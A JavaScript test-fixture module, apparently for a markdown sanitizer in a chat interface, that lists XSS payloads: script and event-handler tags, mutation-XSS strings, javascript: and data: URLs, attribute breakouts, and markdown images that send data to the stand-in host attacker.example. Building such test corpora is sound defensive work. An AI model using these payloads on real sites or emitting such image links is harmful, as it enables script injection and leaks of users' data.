// Markdown that tries to run a script, fetch something or navigate, by kind. Each script calls pwn().

const HOST = 'https://attacker.example'

/** Raw HTML. */
const elements = [
  '<script>pwn()</script>',
  `<script src="${HOST}/a.js"></script>`,
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src="x" onerror="pwn()" alt="soup">',
  `<img srcset="${HOST}/a.png 2x">`,
  '<svg onload=pwn()></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwn()"><text y=20>soup</text></a></svg>',
  `<svg><use href="${HOST}/a.svg#b"></use></svg>`,
  '<math href="javascript:pwn()">soup</math>',
  `<iframe src="${HOST}"></iframe>`,
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  `<object data="${HOST}/a.swf"></object>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<link rel="stylesheet" href="${HOST}/a.css">`,
  `<style>@import "${HOST}/a.css"; body { display: none }</style>`,
  `<p style="background: url(${HOST}/d)">soup</p>`,
  `<form action="${HOST}"><button>Suggest a recipe</button></form>`,
  `<button formaction="javascript:pwn()">soup</button>`,
  '<input autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>soup</details>',
  `<video poster="${HOST}/e.png"></video>`,
  '<div onmouseover="pwn()" onclick="pwn()">soup</div>',
  '<a href="javascript:pwn()">soup</a>',
  '<a href="#" onclick="pwn()">soup</a>',
  '<div id="root">soup</div><div name="getElementById">soup</div>',
]

/** Text that two parsers read in different ways. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[><img src=x onerror=pwn()>]]>',
  '<?xml ><img src=x onerror=pwn()>?>',
  '<!ENTITY a "<img src=x onerror=pwn()>">',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>',
  '<a href="x"<img src=x onerror=pwn()>>',
  '`<img src=x onerror=pwn()>\n\n<img src=x onerror=pwn()>`',
  '**<img src=x onerror=**pwn()>',
  '[<img src=x onerror=pwn()>](http://a.example)',
  '> <script>\n> pwn()\n> </script>',
  '- <script>\n  pwn()\n  </script>',
  '| a |\n| - |\n| <img src=x onerror=pwn()> |',
  '# <img src=x onerror=pwn()>',
  '<p>\n\n**soup**\n\n<script>pwn()</script>\n\n</p>',
]

const schemes = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  'javascript&colon;pwn()',
  '&#106;avascript:pwn()',
  'java&#9;script:pwn()',
  'java&NewLine;script:pwn()',
  '&#1;javascript:pwn()',
  'javascript://a.example/%0Apwn()',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'blob:http://a.example/b',
  'file:///etc/passwd',
  'about:blank',
  'intent://a#Intent;scheme=http;end',
  '//attacker.example/a',
  '/\\attacker.example/a',
  '/v1/chat/completions',
  '?a=b',
  '#top',
  'http:a',
  'https:/v1/chat/completions',
  '',
]

/** Each scheme in every form of a link. */
const addresses = schemes.map((url) =>
  [
    `[soup](<${url}>)`,
    `[soup][r]\n\n[r]: <${url}>`,
    `![soup](<${url}>)`,
    ...(/^[a-z]+:/i.test(url) && !/[\s<]/.test(url) ? [`<${url}>`] : []),
  ].join('\n\n'),
)

/** Images whose URL carries data to a server. */
const pictures = [
  `![soup](${HOST}/a.png?list=egg)`,
  `![soup](http://attacker.example/b.png)`,
  `![soup](//attacker.example/c.png)`,
  `![](${HOST}/d.png)`,
  `![soup][p]\n\n[p]: ${HOST}/e.png`,
  `![p]\n\n[p]: ${HOST}/f.png`,
  `[![soup](${HOST}/g.png)](${HOST}/h)`,
  `![![soup](${HOST}/j.png)](${HOST}/k.png)`,
  `| ![soup](${HOST}/l.png) |\n| - |`,
  `[^1]\n\n[^1]: ![soup](${HOST}/n.png)`,
  `![soup](${HOST}/p.png){onerror=pwn()}`,
]

/** Text that tries to end the attribute or the name that contains it. */
const breakouts = [
  '[soup](http://a.example "\\" onclick=\\"pwn()")',
  `[soup](http://a.example '" onmouseover="pwn()')`,
  '![" onerror="pwn()](x)',
  '![soup](x" onerror="pwn\\(\\))',
  '[soup](http://a.example/"onclick="pwn\\(\\))',
  '```" onclick="pwn()\nsoup\n```',
  '```js onload=pwn()\nsoup\n```',
  '[^<img src=x onerror=pwn()>]\n\n[^<img src=x onerror=pwn()>]: soup',
  '[^__proto__]\n\n[^__proto__]: soup',
  '[__proto__]\n\n[__proto__]: http://a.example',
  '[constructor]: javascript:pwn()\n\n[constructor]',
  '- [x](javascript:pwn()) soup',
  '1. [ ] <input onfocus=pwn() autofocus>',
  'www.a.example/"onclick="pwn()',
  'http://a.example/<img/src=x/onerror=pwn()>',
  'pwn()@a.example',
  '<http://a.example/" onclick="pwn()>',
  '<mailto:a@b.example?body=%0d%0aBcc:c@d.example>',
  '\u202Ejavascript:pwn()',
]

export const PAYLOADS = { elements, mutations, addresses, pictures, breakouts }
